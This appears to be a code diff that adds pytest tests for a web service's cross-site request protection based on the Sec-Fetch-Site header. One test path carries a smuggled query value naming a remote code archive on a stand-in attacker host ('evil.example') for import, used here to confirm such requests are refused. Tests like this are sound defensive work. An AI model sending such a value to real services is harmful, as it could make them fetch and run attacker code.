@@ -71,6 +71,23 @@ def test_what_other_pages_may_ask_they_may_not_read(world: World) -> None:
     assert not [name for name in refused.headers if name.startswith("access-control-")]
 
 
+@pytest.mark.parametrize("site", ["cross-site", "same-site"])
+@pytest.mark.parametrize("path", ["/v1/jobs", "/v1/recipes/a:B?py_modules=http://evil.example/a.zip", "/nothing"])
+def test_what_another_page_loads_or_opens_is_not_even_looked_at(world: World, site: str, path: str) -> None:
+    """An image of another site needs no right to be asked for, and its address may name code to import."""
+    problem(world.http.get(path, headers={"Sec-Fetch-Site": site}), 403, "forbidden")
+
+
+@pytest.mark.parametrize("path", ["/", "/docs", "/healthz"])
+def test_another_page_may_lead_to_the_dashboard(world: World, path: str) -> None:
+    assert world.http.get(path, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200
+
+
+@pytest.mark.parametrize("site", ["same-origin", "none"])
+def test_the_own_page_and_whoever_types_an_address_may_look(world: World, site: str) -> None:
+    assert world.http.get("/v1/jobs", headers={"Sec-Fetch-Site": site}).status_code == 200
+
+
 def test_a_form_of_another_site_cannot_submit(world: World) -> None:
     """Browsers send these kinds of body without asking; some leave out the Origin."""
     for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
